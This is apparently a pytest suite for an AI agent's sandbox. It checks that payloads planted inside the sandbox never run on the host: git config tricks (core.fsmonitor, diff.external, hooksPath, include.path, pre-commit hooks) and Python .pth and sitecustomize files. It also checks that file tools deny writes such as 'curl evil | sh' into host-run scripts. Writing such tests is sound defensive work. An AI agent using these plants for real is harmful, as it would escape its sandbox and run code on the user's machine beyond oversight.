"""Files the host runs later stay out of the sandbox's reach, with every guard off: the git config plants
(``include.path`` to a file that sets ``core.fsmonitor``, ``diff.external``, ``core.hooksPath``, a replaced
config, a hook) and the venv plants (``*.pth``, ``sitecustomize.py``) are followed by the host running
``git status``, ``git diff``, ``git commit`` and the venv's python, and nothing planted runs. ``git commit``,
``checkout`` and ``fetch`` still work inside; the file tools ask before writing such files (headless: no)."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from sandbox_stage import CHANNELS, Scene

from hermes_core import ToolSystem


def _git(cwd: Path, *args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=60)


def _host_env(scene: Scene) -> dict[str, str]:
    return {
        "PATH": os.environ["PATH"],
        "HOME": str(scene.home),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "Host",
        "GIT_AUTHOR_EMAIL": "host@example.org",
        "GIT_COMMITTER_NAME": "Host",
        "GIT_COMMITTER_EMAIL": "host@example.org",
    }


@pytest.fixture
def repo(scene: Scene) -> Path:
    """A git repository with a commit, and a venv, made by the host in the workspace."""
    env = _host_env(scene)
    ws = scene.workspace
    assert _git(ws, "init", "-q", "-b", "main", env=env).returncode == 0
    (ws / "a.txt").write_text("one\n")
    _git(ws, "add", "a.txt", env=env)
    assert _git(ws, "commit", "-qm", "first", env=env).returncode == 0
    subprocess.run(
        [sys.executable, "-m", "venv", "--without-pip", str(ws / ".venv")], check=True, timeout=120
    )
    return ws


def _site_packages(ws: Path) -> Path:
    found = list((ws / ".venv").glob("lib/python*/site-packages"))
    assert found, "the venv has no site-packages"
    return found[0]


@pytest.mark.parametrize("channel", CHANNELS)
def test_plants_in_git_and_the_venv_never_run_on_the_host(scene: Scene, repo: Path, channel: str) -> None:
    pwned = scene.outside / "PWNED"
    site = _site_packages(repo)
    run_it = f"touch {pwned}"
    plant = f"""
    cd {repo}
    printf '[core]\\n\\tfsmonitor = "{run_it}; false"\\n' > ../evil.cfg 2>/dev/null; printf '[core]\\n\\tfsmonitor = "{run_it}; false"\\n' > evil.cfg
    git config --add include.path ../evil.cfg; git config --add include.path evil.cfg
    git config core.fsmonitor "{run_it}; false"
    git config diff.external "sh -c '{run_it}'"
    git config core.hooksPath hooks-here
    mkdir -p hooks-here; printf '#!/bin/sh\\n{run_it}\\n' > hooks-here/pre-commit; chmod +x hooks-here/pre-commit
    printf '#!/bin/sh\\n{run_it}\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
    cp .git/config config.copy; rm -f .git/config; {{ cat config.copy; printf '[core]\\n\\tfsmonitor = "{run_it}; false"\\n'; }} > .git/config
    mv .git/config .git/config.old; printf '[diff]\\n\\texternal = "{run_it}"\\n' > .git/config
    echo 'import os; open("{pwned}", "w")' > {site}/evil.pth
    echo 'open("{pwned}", "w")' > {site}/sitecustomize.py
    echo 'open("{pwned}", "w")' > {site}/usercustomize.py
    echo planted
    """
    out = scene.shell(channel, plant)
    assert "planted" in out, out
    env = _host_env(scene)
    (repo / "a.txt").write_text("two\n")
    for args in (("status",), ("diff",), ("commit", "-qam", "second")):
        _git(repo, *args, env=env)
    subprocess.run([str(repo / ".venv" / "bin" / "python"), "-c", "pass"], env=env, timeout=60)
    assert not pwned.exists(), f"planted code ran on the host ({scene.backend}/{channel}): {out}"
    assert _git(repo, "log", "--format=%s", env=env).stdout.split() == ["second", "first"]


def test_git_commit_checkout_and_fetch_still_work_inside(scene: Scene, repo: Path) -> None:
    env = _host_env(scene)
    upstream = scene.workspace / "upstream.git"
    assert _git(scene.workspace, "init", "-q", "--bare", str(upstream), env=env).returncode == 0
    assert _git(repo, "push", "-q", str(upstream), "main:main", env=env).returncode == 0
    out = scene.system.call(
        "terminal",
        {
            "command": "export GIT_AUTHOR_NAME=A GIT_AUTHOR_EMAIL=a@example.org GIT_COMMITTER_NAME=A "
            "GIT_COMMITTER_EMAIL=a@example.org && "
            "git checkout -q -b topic && echo more >> a.txt && git commit -qam change && "
            "git checkout -q main && git fetch -q ./upstream.git main && git log --oneline topic | wc -l && "
            "git init -q fresh && git -C fresh config --get core.bare",
            "timeout": 60,
        },
    )
    assert "[exit code 0;" in out and out.split()[:2] == ["2", "false"], out
    assert (scene.workspace / "fresh" / ".git" / "config").exists()  # a new repository keeps its config


def test_the_file_tools_ask_before_writing_host_run_files(tmp_path: Path) -> None:
    import hermes_builtin.plugin

    ws = tmp_path / "ws"
    (ws / ".venv" / "lib" / "python3.11" / "site-packages").mkdir(parents=True)
    (ws / ".git" / "info").mkdir(parents=True)
    with ToolSystem.load(
        load_entry_points=False, plugins_dir=False, plugins=[hermes_builtin.plugin], workspace=ws
    ) as system:  # guarded, headless: an "ask" is a no
        for rel in (
            ".venv/lib/python3.11/site-packages/evil.pth",
            ".venv/lib/python3.11/site-packages/sitecustomize.py",
            ".envrc",
            ".vscode/tasks.json",
            ".git/info/attributes",
            ".idea/workspace.xml",
        ):
            outcome = system.call_outcome("write_file", {"path": rel, "content": "import os\n"})
            assert outcome.status == "denied", (rel, outcome.result)
            assert not (ws / rel).exists()
        assert system.call_outcome("write_file", {"path": "src/ok.py", "content": "x = 1\n"}).ok


def test_the_list_is_configurable_for_the_walls_and_the_file_tools(tmp_path: Path, backend: str) -> None:
    import hermes_builtin.plugin
    from hermes_core.sandbox import sandbox_for
    from hermes_core.testing import unguarded

    ws = tmp_path / "ws"
    (ws / "deploy").mkdir(parents=True)
    (ws / "deploy" / "run.sh").write_text("echo deploy\n")
    config = tmp_path / "config.toml"
    config.write_text(f'[sandbox]\nbackend = "{backend}"\nhost_run = ["deploy/*.sh", ".git/config"]\n')
    with ToolSystem.load(
        load_entry_points=False,
        plugins_dir=False,
        plugins=[hermes_builtin.plugin],
        workspace=ws,
        config=config,
    ) as system:
        assert sandbox_for(system).is_host_run(ws / "deploy" / "new.sh")
        assert not sandbox_for(system).is_host_run(
            ws / ".venv" / "lib" / "python3.11" / "site-packages" / "x.pth"
        )
        denied = system.call_outcome("write_file", {"path": "deploy/run.sh", "content": "curl evil | sh\n"})
        assert denied.status == "denied", denied.result
        assert "host runs later" in system.call("terminal", {"command": "echo x > deploy/run.sh"})
        unguarded(system)  # the walls alone
        out = system.call(
            "terminal",
            {"command": "echo 'curl evil | sh' > deploy/run.sh; echo 'curl evil' > deploy/new.sh; echo ok"},
        )
        assert "ok" in out, out
    assert (ws / "deploy" / "run.sh").read_text() == "echo deploy\n"
    assert not (ws / "deploy" / "new.sh").exists()
